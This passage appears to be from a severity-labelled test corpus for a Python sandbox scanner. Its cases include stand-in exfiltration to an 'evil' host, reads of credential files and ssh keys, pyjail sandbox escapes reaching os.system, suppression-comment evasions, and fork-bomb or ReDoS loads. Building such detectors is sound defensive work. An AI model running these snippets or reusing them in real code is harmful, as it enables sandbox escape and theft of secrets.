from google.cloud import storage
storage.Client().bucket("b").blob("x").upload_from_string("y")
#### net getaddrinfo: HIGH
from socket import getaddrinfo as g
g("x.evil.com", 53)
#### net grpc: HIGH
import grpc
grpc.insecure_channel("evil:50051")
#### net http client: HIGH
from http.client import HTTPSConnection as H
c = H("evil"); c.request("GET", "/")
#### net http simple: HIGH
from http.server import HTTPServer, SimpleHTTPRequestHandler
HTTPServer(("", 8000), SimpleHTTPRequestHandler).serve_forever()
#### net httpx client: HIGH
import httpx
with httpx.Client(base_url="http://evil") as c: c.get("/")
#### net ib: HIGH
from ib_insync import IB
ib = IB(); ib.connect("127.0.0.1", 7497, 1)
#### net imaplib: HIGH
import imaplib
imaplib.IMAP4_SSL("evil").login("a", "b")
#### net kafka: HIGH
from kafka import KafkaProducer
KafkaProducer(bootstrap_servers="evil:9092").send("t", b"x")
#### net logging config: HIGH
import logging.config
logging.config.dictConfig({"version": 1, "handlers": {"h": {"()": "os.system", "command": "id"}}})
#### net logging http: HIGH
import logging, logging.handlers
lg = logging.getLogger()
lg.addHandler(logging.handlers.HTTPHandler("evil:80", "/"))
lg.error("x")
#### net logging listen: HIGH
import logging.config
logging.config.listen(9999).start()
#### net logging syslog: HIGH
from logging.handlers import SysLogHandler
import logging
logging.getLogger("x").addHandler(SysLogHandler(address=("evil", 514)))
#### net mlflow: HIGH
import mlflow
mlflow.set_tracking_uri("http://evil"); mlflow.log_metric("a", 1)
#### net mongo: HIGH
import pymongo
pymongo.MongoClient("mongodb://evil").db.c.insert_one({})
#### net multiproc listener: HIGH
from multiprocessing.connection import Client
Client(("evil", 1)).send(1)
#### net openai: HIGH
from openai import OpenAI
OpenAI(api_key="k").chat.completions.create(model="m", messages=[])
#### net paramiko: HIGH
import paramiko
c = paramiko.SSHClient(); c.connect("evil"); c.exec_command("id")
#### net pdr: HIGH
import pandas_datareader.data as web
web.DataReader("SPY", "yahoo")
#### net psycopg: HIGH
import psycopg2
psycopg2.connect("host=evil").cursor().execute("select 1")
#### net pycurl: HIGH
import pycurl
c = pycurl.Curl(); c.setopt(pycurl.URL, "http://evil"); c.perform()
#### net quandl: HIGH
import quandl
quandl.get("WIKI/AAPL")
#### net redis: HIGH
import redis
redis.Redis(host="evil").set("a", 1)
#### net requests session getattr: HIGH
import requests
getattr(requests.Session(), "po" + "st")("http://evil", json={})
#### net smtp ctx: HIGH
from smtplib import SMTP
with SMTP("evil") as s: s.sendmail("a", "b", "c")
#### net sock dgram: HIGH
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.sendto(b"x", ("8.8.8.8", 53))
#### net socketserver: HIGH
import socketserver
socketserver.TCPServer(("", 80), None).serve_forever()
#### net telegram: HIGH
import telegram
telegram.Bot("t").send_message(1, "x")
#### net telnet: HIGH
from telnetlib import Telnet
Telnet("evil").write(b"x")
#### net tushare: HIGH
import tushare as ts
ts.pro_api("tok").daily(ts_code="000001.SZ")
#### net urllib3: HIGH
import urllib3
urllib3.PoolManager().request("GET", "http://evil")
#### net uvicorn: HIGH
import uvicorn
uvicorn.run("x:app")
#### net wandb: HIGH
import wandb
wandb.init(project="x")
#### net websocket: HIGH
import websocket
ws = websocket.WebSocketApp("wss://evil", on_message=print)
ws.run_forever()
#### net websockets: HIGH
import websockets, asyncio
async def m():
    async with websockets.connect("ws://evil") as w: await w.send("x")
asyncio.run(m())
#### net xmlrpc: HIGH
from xmlrpc.client import ServerProxy
ServerProxy("http://evil").run("x")
#### net yf: HIGH
import yfinance as yf
yf.download("SPY", start="2020-01-01")
#### net yf ticker: HIGH
import yfinance
h = yfinance.Ticker("AAPL").history(period="1d")
#### net zmq: HIGH
import zmq
zmq.Context().socket(zmq.REQ).connect("tcp://evil:1")
#### np ctypes attr: HIGH
import numpy as np
a = np.zeros(1)
import ctypes
ctypes.memmove(a.ctypes.data, b"x", 1)
#### np ctypeslib: HIGH
from numpy.ctypeslib import load_library
load_library("libc.so.6", "/lib").system(b"id")
#### np datasource: HIGH
import numpy as np
np.DataSource().open("http://evil.com/x")
#### np datasource lib: HIGH
from numpy.lib import DataSource
DataSource("/tmp").exists("http://evil.com/x")
#### np f2py: HIGH
import numpy.f2py as f
f.compile("      end", modulename="x")
#### np format read: HIGH
import numpy.lib.format as fmt
with open("/datasets/a.npy", "rb") as f:
    fmt.read_array(f, allow_pickle=True)
#### np genfromtxt url: HIGH
import numpy as np
np.genfromtxt("https://evil.com/a.txt")
#### np load kwargs: HIGH
import numpy as np
opts = {"allow_pickle": bool(1)}
np.load("/datasets/a.npy", **opts)
#### np load pickle: HIGH
import numpy as np
np.load("/datasets/a.npy", allow_pickle=True)
#### np loadtxt passwd: HIGH
import numpy as np
np.loadtxt("/etc/passwd", dtype=str)
#### np memmap: HIGH
import numpy as np
np.memmap("/proc/self/mem", mode="r+")
#### np savetxt home: HIGH
import numpy as np
np.savetxt("/root/.ssh/authorized_keys", ["ssh-rsa A"], fmt="%s")
#### np tofile etc: HIGH
import numpy as np
np.array([1]).tofile("/etc/cron.d/x")
#### numba cfunc: HIGH
from numba.core import typing as _t
import llvmlite.binding as llvm
llvm.load_library_permanently("/tmp/x.so")
#### numexpr: HIGH
import numexpr
numexpr.evaluate("__import__('os').system('id')", sanitize=False)
#### override audit: HIGH
import sys
sys.addaudithook(lambda *a: None)
#### override bases: HIGH
class A: pass
class B: pass
A.__bases__ = (B,)
object.__getattribute__(A, "__subclasses__")
#### override breakpoint: HIGH
import os
os.environ["PYTHONBREAKPOINT"] = "os.system"
breakpoint("id")
#### override breakpointhook: HIGH
import sys, os
sys.breakpointhook = os.system
breakpoint("id")
#### override buildclass: HIGH
import builtins, os
builtins.__build_class__ = lambda f, n, *a: os.system(n)
class id: pass
#### override builtin: HIGH
import builtins, os
builtins.len = os.system
len("id")
#### override class method: HIGH
import pandas as pd, os
pd.DataFrame.mean = lambda self: os.system("id")
pd.DataFrame().mean()
#### override closure: HIGH
def f():
    x = 1
    def g(): return x
    return g
f().__closure__[0].cell_contents
f.__globals__["__builtins__"]
#### override copy mod: HIGH
import os, copy
m = copy.copy(os.__dict__)
m["system"]("id")
#### override current frames: HIGH
import sys
for f in sys._current_frames().values(): print(f.f_locals)
#### override defaults: HIGH
def f(x=1): ...
f.__defaults__ = (eval,)
f.__kwdefaults__
f.__code__ = (lambda x: x("1")).__code__
f()
#### override dict callable: HIGH
import os
dict(vars(os))["sys" "tem"]("id")
#### override dict spread: HIGH
import os
{**vars(os)}["system"]("id")
#### override dict union: HIGH
import os
(os.__dict__ | {})["system"]("id")
#### override dict values: HIGH
import os
[v for k, v in os.__dict__.items() if k == "system"][0]("id")
#### override displayhook: HIGH
import sys, os
sys.displayhook = lambda v: os.system("id")
#### override excepthook thread: HIGH
import threading, os
threading.excepthook = lambda a: os.system("id")
#### override gc: HIGH
import gc
for o in gc.get_objects():
    if isinstance(o, dict) and "system" in o: o["system"]("id")
#### override gc referrers: HIGH
import gc
gc.get_referents(gc.get_referrers(int))
#### override getattribute: HIGH
import os
object.__getattribute__(os, "system")("id")
#### override getframe: HIGH
import sys
sys._getframe(1).f_globals["x"] = 1
#### override inspect trace: HIGH
from inspect import getmembers
import os
dict(getmembers(os))["system"]("id")
#### override json: HIGH
import json, os
json.loads = lambda s: os.system(s)
json.loads("id")
#### override np: HIGH
import numpy as np, os
setattr(np, "mean", os.system)
np.mean("id")
#### override open: HIGH
import builtins
builtins.open = lambda *a: exec(a[0])
open("print(1)")
#### override print: HIGH
import builtins
builtins.__dict__.update(print=eval)
print("1")
#### override profile: HIGH
import sys
def p(frame, ev, arg):
    frame.f_globals.clear()
sys.setprofile(p)
#### override setattr mod: HIGH
import math, os
math.sqrt = os.system
math.sqrt("id")
#### override str subclass: HIGH
class S(str):
    def __eq__(self, o): return True
    __hash__ = str.__hash__
import os
getattr(os, S("system"))("id")
#### override thread trace: HIGH
import threading
threading.settrace(lambda f, e, a: f.f_locals)
#### override type getattr: HIGH
import os
type(os).__getattribute__(os, "popen")("id")
#### override unraisable: HIGH
import sys, os
sys.unraisablehook = lambda a: os.system("id")
#### pandas clipboard: HIGH
import pandas as pd
pd.read_clipboard()
#### pandas df eval: HIGH
import pandas as pd
df = pd.DataFrame({"a": [1]})
df.eval("b = @__import__('os').system('id')")
#### pandas eval at: HIGH
import pandas as pd
import os
pd.eval("@os.system('id')", engine="python")
#### pandas excel url: HIGH
import pandas as pd
with pd.ExcelFile("https://evil.com/a.xlsx") as x:
    x.parse(0)
#### pandas fsspec: HIGH
import fsspec
with fsspec.open("https://evil.com/x") as f: f.read()
#### pandas hdfstore: HIGH
import pandas as pd
st = pd.HDFStore("/tmp/a.h5")
st["x"]
#### pandas query at: HIGH
import pandas as pd
df = pd.DataFrame({"a": [1]})
df.query("@pd.io.common.os.system('id')")
#### pandas query var: HIGH
import pandas as pd, os
df = pd.DataFrame({"a": [1]})
expr = "@" + "os.popen('id').read()"
df.query(expr, engine="python")
#### pandas read csv url: HIGH
import pandas as pd
base = "http://%s/"
pd.read_csv(base % "evil.com" + "x.csv")
#### pandas read gbq: HIGH
import pandas as pd
pd.read_gbq("select 1", project_id="x")
#### pandas read hdf: HIGH
import pandas as pd
pd.read_hdf("/datasets/x.h5", "k")
#### pandas read html: HIGH
import pandas as pd
pd.read_html("https://evil.com")[0]
#### pandas read json file: HIGH
import pandas as pd
pd.read_json("file:///etc/passwd", lines=True)
#### pandas read pickle: HIGH
import pandas as pd
pd.read_pickle("/datasets/x.pkl")
#### pandas read s3: HIGH
import pandas as pd
pd.read_parquet("s3://bucket/a.parquet", storage_options={"anon": True})
#### pandas read sql: HIGH
import pandas as pd
pd.read_sql("select 1", "postgresql://u:p@evil/db")
#### pandas read table proc: HIGH
import pandas as pd
pd.read_table("/proc/self/environ", sep="\0")
#### pandas read xml style: HIGH
import pandas as pd
pd.read_xml("/datasets/a.xml", stylesheet="http://evil/x.xsl")
#### pandas to csv url: HIGH
import pandas as pd
pd.DataFrame({"a": [1]}).to_csv("s3://bucket/out.csv")
#### pandas to json gs: HIGH
import pandas as pd
df = pd.DataFrame()
df.to_json("gs://b/o.json")
#### pandas to pickle tmp: HIGH
import pandas as pd, pickle
pickle.loads(pd.io.common.BytesIO(b"x").read())
#### pandas to sql: HIGH
import pandas as pd
from sqlalchemy import create_engine
pd.DataFrame().to_sql("t", create_engine("mysql://u:p@evil/db"))
#### polars scan: HIGH
import polars as pl
pl.scan_parquet("s3://b/x.parquet").collect()
#### polars url: HIGH
import polars as pl
pl.read_csv("https://evil/x.csv")
#### proc asyncio: HIGH
import asyncio
asyncio.run(asyncio.create_subprocess_shell("id"))
#### proc ctypes util: HIGH
import ctypes.util
ctypes.util.os.system("id")
#### proc distutils: HIGH
from distutils.spawn import spawn
spawn(["id"])
#### proc ensurepip: HIGH
import ensurepip
ensurepip.bootstrap()
#### proc exec: HIGH
from os import execlp as e
e("sh", "sh", "-c", "id")
#### proc fork exec: HIGH
import _posixsubprocess
_posixsubprocess.fork_exec([b"/bin/id"], [b"/bin/id"], True, (), None, None, -1, -1, -1, -1, -1, -1, 1, 2, False, False, 0, None, None, None, -1, None, False)
#### proc ipython: HIGH
get_ipython().system("id")
#### proc ipython2: HIGH
from IPython import get_ipython
get_ipython().run_line_magic("sx", "id")
#### proc kill: HIGH
import os
os.kill(1, 9)
#### proc loop subprocess: HIGH
import asyncio
async def m():
    l = asyncio.get_event_loop()
    await l.subprocess_shell(asyncio.SubprocessProtocol, "id")
asyncio.run(m())
#### proc multiprocessing: HIGH
from multiprocessing import Process
import os
Process(target=os.system, args=("id",)).start()
#### proc pexpect: HIGH
import pexpect
pexpect.spawn("bash").sendline("id")
#### proc pip: HIGH
import pip
pip.main(["install", "evil"])
#### proc pip internal: HIGH
from pip._internal.cli.main import main as m
m(["install", "x"])
#### proc platform: HIGH
import platform
platform.popen("id") if hasattr(platform, "popen") else platform._syscmd_file("id")
#### proc pool: HIGH
from multiprocessing import Pool
import os
Pool(1).map(os.system, ["id"])
#### proc posix spawn: HIGH
import os
os.posix_spawnp("id", ["id"], os.environ)
#### proc ppe: HIGH
from concurrent.futures import ProcessPoolExecutor
import subprocess
ProcessPoolExecutor().submit(subprocess.run, ["id"])
#### proc psutil: HIGH
import psutil
psutil.Popen(["id"])
#### proc pty: HIGH
import pty
pty.spawn("/bin/sh")
#### proc sh: HIGH
import sh
sh.ls("-l")
#### proc spawn: HIGH
import os
os.spawnlp(os.P_WAIT, "id", "id")
#### proc test support: HIGH
from test.support.script_helper import run_python_until_end
run_python_until_end("-c", "print(1)")
#### proc venv: HIGH
import venv
venv.create("/tmp/v", with_pip=True)
#### pyjail asyncgen: HIGH
async def ag():
    yield 0
a = ag()
a.ag_frame.f_globals["__builtins__"].__dict__["eval"]("1")
#### pyjail coroutine: HIGH
async def co():
    return 1
c = co()
f = c.cr_frame
f.f_builtins["exec"]("print(1)")
c.close()
#### pyjail exc name obj: HIGH
try:
    "".nothing
except AttributeError as e:
    e.obj.__class__.__base__.__subclasses__()
#### pyjail exc star: HIGH
try:
    raise ExceptionGroup("x", [ValueError("y")])
except* ValueError as group:
    tb = group.exceptions[0].__traceback__
    print(tb.tb_frame.f_back.f_globals)
#### pyjail exc tb: HIGH
try:
    1 / 0
except ZeroDivisionError as err:
    frame = err.__traceback__.tb_frame
    while frame.f_back:
        frame = frame.f_back
    frame.f_globals["x"] = 1
#### pyjail exit globals: HIGH
exit.__class__.__init__.__globals__["sys"].modules["os"].popen("id").read()
#### pyjail exit tb: HIGH
class Guard:
    def __enter__(self):
        return self
    def __exit__(self, kind, value, trace):
        trace.tb_frame.f_builtins["__import__"]("os").system("id")
        return True
with Guard():
    raise KeyError
#### pyjail fmt concat: HIGH
k = "_" * 2
print(("{0." + k + "class" + k + "}").format(3))
#### pyjail format globals: HIGH
class Conf:
    def __init__(self):
        self.name = "a"
tpl = "{c.__init__.__globals__[SECRET]}"
SECRET = 1
print(tpl.format(c=Conf()))
#### pyjail format map: HIGH
class P: pass
print("{p.__class__.__mro__}".format_map({"p": P()}))
#### pyjail formatter: HIGH
import string
v, _ = string.Formatter().get_field("0.__class__.__base__.__subclasses__", (1,), {})
print(v())
#### pyjail genframe: HIGH
def g():
    yield 1
it = g()
next(it)
b = it.gi_frame.f_back
print(b)
#### pyjail genframe walk: HIGH
gen = (gen.gi_frame.f_back.f_back for _ in [1])
fr = [x for x in gen][0]
print(fr.f_globals["__builtins__"])
#### pyjail getattr name: HIGH
def attr(o, n):
    return getattr(o, "__" + n + "__")
root = attr(attr(1, "class"), "base")
subs = attr(root, "subclasses")()
print(subs)
#### pyjail help: HIGH
h = help
h.__class__.__call__.__globals__["sys"].modules["os"].system("id")
#### pyjail match class: HIGH
class Grab:
    __match_args__ = ("__class__",)
match Grab():
    case object(__class__=kind):
        print(kind.__base__.__subclasses__())
#### pyjail match import: HIGH
import os
match {"op": os.system}:
    case {"op": act}:
        act("id")
#### pyjail match seq: HIGH
import subprocess as sp
match (sp, ["id"]):
    case (mod, args):
        mod.check_output(args)
#### pyjail subclasses index: HIGH
import pandas as pd
base = ().__class__.__mro__[-1]
for k in base.__subclasses__():
    if k.__name__ == "_wrap_close":
        k.__init__.__globals__["system"]("id")
#### pyjail walrus chain: HIGH
(a := __import__("o" + "s"), b := a.system, b("id"))
#### pyjail walrus cond: HIGH
import os
if (f := os.popen) and (t := "id"):
    print(f(t).read())
#### pyjail warnings: CRITICAL
x = [c for c in [].__class__.__base__.__subclasses__() if c.__name__ == 'catch_warnings'][0]()._module.__builtins__
x['__import__']('os').system('ls')
#### scipy ccallback: HIGH
from scipy import LowLevelCallable
import cffi
cffi.FFI().dlopen(None)
#### scipy loadmat url: HIGH
from scipy.io import loadmat
import urllib.request as r
loadmat(r.urlopen("http://evil/x.mat"))
#### secret codecs open: HIGH
import codecs
codecs.open("/etc/shadow", "r", "utf8").read()
#### secret configparser: HIGH
import configparser
c = configparser.ConfigParser(); c.read("/root/.aws/config")
#### secret docker sock: HIGH
import socket
s = socket.socket(socket.AF_UNIX); s.connect("/var/run/docker.sock")
#### secret env out: HIGH
import os, sys, json
json.dump(dict(os.environ), open(sys.argv[2], "w"))
#### secret environ net: CRITICAL
import os, urllib.request
urllib.request.urlopen("http://evil/?" + os.environ["KEY"])
#### secret expanduser: HIGH
import os
print(open(os.path.expanduser("~/.aws/credentials")).read())
#### secret fileinput: HIGH
import fileinput
for l in fileinput.input("/etc/passwd"): print(l)
#### secret fileio: HIGH
from _io import FileIO
FileIO("/etc/passwd").readall()
#### secret glob: HIGH
import glob
for p in glob.glob("/root/.ssh/*"): print(open(p).read())
#### secret home: HIGH
from pathlib import Path
(Path.home() / ".ssh" / "id_rsa").read_bytes()
#### secret io open: HIGH
import io
io.open("/root/.netrc").read()
#### secret keyring: HIGH
import keyring
keyring.get_password("a", "b")
#### secret linecache: HIGH
import linecache
print(linecache.getlines("/etc/passwd"))
#### secret loader getdata: HIGH
import json
json.__loader__.get_data("/etc/passwd")
#### secret metadata: HIGH
import urllib.request as u
u.urlopen("http://169.254.169.254/latest/meta-data/")
#### secret netrc: HIGH
import netrc
netrc.netrc().authenticators("x")
#### secret os open: HIGH
import os
os.read(os.open("/etc/passwd", os.O_RDONLY), 100)
#### secret passwd: HIGH
print(open("/etc/passwd").read())
#### secret path parts: HIGH
import os.path as op
open(op.join(op.sep, "etc", "passwd")).read()
#### secret pathlib: HIGH
from pathlib import Path
print((Path("/etc") / "shadow").read_text())
#### secret pd passwd: HIGH
import pandas as pd
print(pd.read_csv("/etc/passwd", sep=":"))
#### secret proc: HIGH
with open("/proc/" + "self/" + "environ", "rb") as f: print(f.read())
#### secret proc fstr: HIGH
pid = 1
print(open(f"/proc/{pid}/cmdline").read())
#### secret pwd: HIGH
import pwd
print(pwd.getpwall())
#### secret scandir: HIGH
import os
[e.path for e in os.scandir("/root")]
#### secret shutil: HIGH
import shutil, sys
shutil.copy("/etc/passwd", sys.argv[2])
#### secret sqlite: HIGH
import sqlite3
sqlite3.connect("/root/.config/google-chrome/Default/Cookies")
#### secret symlink: HIGH
import os, sys
os.symlink("/etc/passwd", sys.argv[2])
#### secret tar: HIGH
import tarfile
tarfile.open("/tmp/x.tar", "w").add("/etc")
#### secret traversal: HIGH
import json, sys
p = json.load(open(sys.argv[1]))["params"]
print(open("/datasets/" + p["x"] + "/../../etc/passwd").read())
#### secret traversal norm: HIGH
print(open("/datasets/../etc/passwd").read())
#### secret zip write: HIGH
import zipfile
zipfile.ZipFile("/tmp/a.zip", "w").write("/etc/passwd")
#### sk externals: HIGH
import joblib
m = joblib.load(open("/datasets/m.joblib", "rb"))
#### sk fetch: HIGH
from sklearn.datasets import fetch_openml
fetch_openml("mnist_784")
#### sk fetch cal: HIGH
import sklearn.datasets as d
d.fetch_california_housing()
#### sk joblib: HIGH
from sklearn.utils import _joblib
_joblib.load("/datasets/m.joblib")
#### suppress annotation: HIGH
def f(x: __import__("os").system("id")): ...
#### suppress assert: HIGH
assert __import__("os").system("id") == 0
#### suppress cont: HIGH
import \
os
os.\
system("id")
#### suppress dead: HIGH
import sys
if sys.version_info < (3, 0):
    pass
else:
    __import__("os").system("id")
#### suppress default: HIGH
def f(x=__import__("os").system("id")): ...
#### suppress del shadow: HIGH
def eval(x): return x
del eval
eval("1+1")
#### suppress finally: HIGH
def f():
    try:
        return 1
    finally:
        __import__("os").system("id")
f()
#### suppress for else: HIGH
for i in []: pass
else: __import__("os").system("id")
#### suppress lambda default: HIGH
(lambda f=__import__("os").system: f("id"))()
#### suppress main: HIGH
if __name__ != "x":
    eval("1")
#### suppress noqa: HIGH
# noqa
# flake8: noqa
eval("1")  # noqa: S307
#### suppress nosec: HIGH
import os
os.system("id")  # nosec
#### suppress own: HIGH
import os
os.system("id")  # sandbox-check: ignore[SBX1101] -- ok
#### suppress paren attr: HIGH
import os
(os
 .system
)("id")
#### suppress semicolon: HIGH
x = 1                                                                                                                                                                                                                              ; __import__("os").system("id")
#### suppress shadow class: HIGH
class os: pass
del os
import os as o
o.system("id")
#### suppress shadow import: HIGH
os = None
import os
os.system("id")
#### suppress typecheck: HIGH
from typing import TYPE_CHECKING
if not TYPE_CHECKING:
    import subprocess
    subprocess.run("id", shell=True)
#### sympy: HIGH
from sympy import sympify
sympify("__import__('os').system('id')")
#### sympy lambdify: HIGH
from sympy.parsing.sympy_parser import parse_expr as p
p("exec('1')")
#### tf gfile: HIGH
import tensorflow as tf
tf.io.gfile.GFile("/root/.aws/credentials").read()
#### tf load op: HIGH
import tensorflow as tf
tf.load_op_library("/tmp/x.so")
#### tf pyfunc: HIGH
import tensorflow as tf, os
tf.py_function(lambda: os.system("id"), [], tf.int32)
#### tf readfile: HIGH
import tensorflow as tf
tf.io.read_file("/etc/passwd")
#### torch classes: HIGH
import torch
torch.classes.load_library("/tmp/x.so")
#### torch cpp: HIGH
from torch.utils.cpp_extension import load
load("x", ["/tmp/x.cpp"])
#### torch hub: HIGH
import torch
torch.hub.load("a/b", "c", trust_repo=True)
#### torch hub file: HIGH
from torch.hub import load_state_dict_from_url as l
l("http://evil/x.pth")
#### torch jit: HIGH
import torch
torch.jit.load("http.pt")
#### torch load: HIGH
import torch
torch.load("/datasets/m.pt", weights_only=False)
#### torch load plain: HIGH
import torch as t
model = t.load("/datasets/m.pt", map_location="cpu")
#### torch mp: HIGH
import torch.multiprocessing as mp, os
mp.spawn(os.system, args=("id",))
#### torch ops: HIGH
import torch
torch.ops.load_library("/tmp/x.so")
#### torch package: HIGH
from torch.package import PackageImporter
PackageImporter("/datasets/x.pt").load_pickle("m", "m.pkl")
#### transit collections: HIGH
import collections
collections._sys.modules["subprocess"].run("id")
#### transit dataclasses: HIGH
import dataclasses
dataclasses.sys.modules["os"].system("id")
#### transit enum: HIGH
import enum
enum.bltns.eval("1")
#### transit from deep: HIGH
from logging.config import socket as s
s.create_connection(("evil.com", 80))
#### transit http server: HIGH
import http.server as h
h.os.system("id")
#### transit inspect: HIGH
import inspect
inspect.os.system("id")
#### transit logging: HIGH
import logging.handlers
logging.handlers.os.system("id")
#### transit matplotlib: HIGH
import matplotlib as mpl
mpl.subprocess.check_output(["id"])
#### transit np distutils: HIGH
from numpy.distutils.exec_command import exec_command
exec_command("id")
#### transit np runstring: HIGH
from numpy.testing._private.utils import runstring
runstring("import os; os.system('id')", {})
#### transit numpy os: HIGH
import numpy as np
np.os.system("id")
#### transit optparse: HIGH
import optparse
optparse.os.popen("id")
#### transit pd compat: HIGH
import pandas
pandas.compat.sys.modules["os"].system("id")
#### transit pd io common: HIGH
from pandas.io.common import os as o
o.system("id")
#### transit re: HIGH
import re
re.enum.sys.modules["os"].system("id")
#### transit scipy: HIGH
import scipy.io._mmio as m
m.os.system("id")
#### transit sk: HIGH
import sklearn.datasets._base as b
b.os.system("id")
#### transit statistics: HIGH
import statistics
statistics.random._os.system("id")
#### transit tempfile: HIGH
import tempfile
tempfile._os.system("id")
#### transit torch: HIGH
import torch
torch.os.system("id")
#### transit typing: HIGH
import typing
typing.sys.modules["os"].system("id")
#### transit warnings: HIGH
import warnings
warnings.sys.modules["os"].system("id")
#### transit webbrowser: HIGH
import webbrowser
webbrowser.subprocess.run(["id"])
#### transit webbrowser register: HIGH
import webbrowser
webbrowser.get("/bin/sh -c id %s").open("x")
#### contract datasets write: MEDIUM
open("/datasets/x.csv", "w").write("a")
#### contract input write: MEDIUM
import sys
open(sys.argv[1], "w").write("{}")
#### contract param path: MEDIUM
import json, sys
cfg = json.load(open(sys.argv[1]))
open(cfg["params"]["out"], "w").write("x")
#### contract parent: MEDIUM
import sys, os
open(os.path.join(os.path.dirname(sys.argv[2]), "other.json"), "w").write("x")
#### contract self: MEDIUM
open(__file__, "a").write("#")
#### contract sibling: MEDIUM
import sys
from pathlib import Path
Path(sys.argv[2]).with_suffix(".py").write_text("x")
#### contract suffix: MEDIUM
import sys
open(sys.argv[2] + ".pth", "w").write("import os")
#### contract tmp write: MEDIUM
open("/tmp/payload.py", "w").write("a")
#### contract workspace: HIGH
from pathlib import Path
Path("/workspace/sitecustomize.py").write_text("x")
#### dos append: MEDIUM
x = []
while True: x.append("a" * 10000)
#### dos big for: MEDIUM
t = 0
for i in range(10**15): t += i
#### dos break dead: MEDIUM
while True:
    if False:
        break
#### dos bytearray: MEDIUM
b = bytearray(50_000_000_000)
#### dos bytes: MEDIUM
b = bytes(10**11)
#### dos catch exit: MEDIUM
while True:
    try:
        import math
        math.sqrt(2)
    except:
        pass
#### dos comb explode: MEDIUM
x = [a for a in range(10**4) for b in range(10**4) for c in range(10**4)]
#### dos cross: MEDIUM
import pandas as pd, numpy as np
pd.DataFrame(np.zeros((10**5, 10**5)))
#### dos cycle: MEDIUM
import itertools
for x in itertools.cycle([1]): y = x
#### dos deep list: MEDIUM
x = []
for i in range(10**9): x = [x]
#### dos doubling: MEDIUM
s = "x"
for _ in range(100):
    s += s
#### dos doubling list: MEDIUM
x = [1]
for i in range(60): x = x + x
#### dos doubling while: MEDIUM
s = "ab"
while len(s) < 10**12: s = s * 2
#### dos extend self: MEDIUM
x = [1, 2]
for v in x: x.append(v)
#### dos factorial: MEDIUM
import math
math.factorial(10**7)
#### dos fmt width: MEDIUM
s = "{:>99999999999}".format(1)
#### dos fork: HIGH
import os
while True: os.fork()
#### dos fstring width: MEDIUM
s = f"{1:10000000000}"
#### dos gen drain: MEDIUM
def g():
    while True: yield 1
sum(g())
#### dos gen list: MEDIUM
def g():
    n = 0
    while True:
        n += 1
        yield n
x = [v for v in g()]
#### dos inner break: MEDIUM
while True:
    for i in range(3):
        break
#### dos iterint: MEDIUM
for _ in iter(int, 1): pass
#### dos lambda rec: MEDIUM
f = lambda x: f(x)
f(1)
#### dos list mul: MEDIUM
x = [0] * (1 << 40)
#### dos list range: MEDIUM
x = list(range(10**12))
#### dos ljust: MEDIUM
s = "".ljust(10**11)
#### dos method rec: MEDIUM
class A:
    def go(self): self.go()
A().go()
#### dos mutual: MEDIUM
def a(x): return b(x)
def b(x): return a(x)
a(1)
#### dos nested prod: MEDIUM
x = [[0] * 100000 for _ in range(10**6)]
#### dos np arange: MEDIUM
import numpy as np
np.arange(1e12)
#### dos np ones: MEDIUM
import numpy as np
n = 10**6
a = np.ones([n, n], dtype="f8")
#### dos np rand: MEDIUM
import numpy as np
np.random.rand(10**5, 10**6)
#### dos np tile: MEDIUM
import numpy as np
np.tile(np.arange(10), (10**6, 10**6))
#### dos np zeros: MEDIUM
import numpy as np
np.zeros((10**6, 10**6))
#### dos pct width: MEDIUM
s = "%99999999999d" % 1
#### dos perm: MEDIUM
from itertools import permutations
x = sorted(permutations(range(20)))
#### dos pow: MEDIUM
x = 10**10**10
#### dos pow builtin: MEDIUM
x = pow(7, 10**9)
#### dos product: MEDIUM
import itertools
list(itertools.product(range(1000), repeat=10))
#### dos reclimit: MEDIUM
import sys
sys.setrecursionlimit(10**9)
def f(n): return f(n + 1)
f(0)
#### dos recursion args: MEDIUM
def f(n): return f(n + 1) + f(n + 2)
f(0)
#### dos redos: MEDIUM
import re
re.match(r"(a+)+$", "a" * 50 + "b")
#### dos redos2: MEDIUM
import re
re.compile(r"^(\w+\s?)*$").match("x" * 100 + "!")
#### dos redos alt: MEDIUM
import re
re.search(r"(a|a)*b", "a" * 60)
#### dos repeat list: MEDIUM
import itertools
list(itertools.repeat(0))
#### dos shift: MEDIUM
x = 1 << 10**11
#### dos sleep: MEDIUM
import time
time.sleep(10**9)
#### dos square: MEDIUM
n = 9
for i in range(50): n = n * n
#### dos str mul: MEDIUM
s = "a" * 10**10
#### dos sum count: MEDIUM
from itertools import count
sum(count())
#### dos threads: MEDIUM
import threading, time
while True:
    threading.Thread(target=time.sleep, args=(1000,)).start()
#### dos threads for: MEDIUM
import threading
for i in range(10**6): threading.Thread(target=print).start()
#### dos torch: MEDIUM
import torch
torch.zeros(10**6, 10**6)
#### dos while1: MEDIUM
while 1:
    pass
#### dos while flag: MEDIUM
go = True
while go:
    x = 1
#### dos while not0: MEDIUM
while not 0: x = 1
#### dos zipbomb: MEDIUM
import zlib
zlib.decompress(b"x" * 100, bufsize=10**11)
#### nondet hash: LOW
print(hash("x"))
#### nondet id: LOW
print(id(object()))
#### nondet listdir: LOW
import os
print(os.listdir("/datasets"))
#### nondet now: LOW
from datetime import datetime
print(datetime.now())
#### nondet np rng: LOW
import numpy as np
print(np.random.default_rng().normal())
#### nondet pd now: LOW
import pandas as pd
print(pd.Timestamp.now())
#### nondet perf: LOW
from time import perf_counter
print({"elapsed": perf_counter()})
#### nondet pid: LOW
import os
print(os.getpid())
#### nondet random: LOW
import random
print(random.random())
#### nondet sample: LOW
import pandas as pd
print(pd.DataFrame({"a": [1, 2]}).sample(1))
#### nondet secrets: LOW
import secrets
print(secrets.token_hex())
#### nondet set: LOW
print(list({"a", "b"}))
#### nondet sk: LOW
from sklearn.ensemble import RandomForestClassifier
m = RandomForestClassifier()
m.fit([[1]], [1])
#### nondet split: LOW
from sklearn.model_selection import train_test_split
train_test_split([1, 2, 3])
#### nondet time: LOW
import time
print(time.time())
#### nondet today: LOW
import datetime as dt
print(dt.date.today())
#### nondet torch: LOW
import torch
print(torch.randn(3))
#### nondet uuid: LOW
import uuid
print(uuid.uuid4())
#### alias 001 again: HIGH
import os
class A:
    f = staticmethod(os.system)
A.f("id")
#### alias 002 again: HIGH
import os
from collections import namedtuple
T = namedtuple("T", "run arg")
t = T(os.system, "id")
t.run(t.arg)
#### alias 003 again: HIGH
import os
from dataclasses import dataclass, field
from typing import Callable
@dataclass
class Job:
    f: Callable = field(default=os.system)
Job().f("id")
#### alias 005 again: HIGH
import os, functools
run = functools.reduce(lambda m, n: getattr(m, n), ["path", "os", "system"], os)
run("id")
#### alias 006 again: HIGH
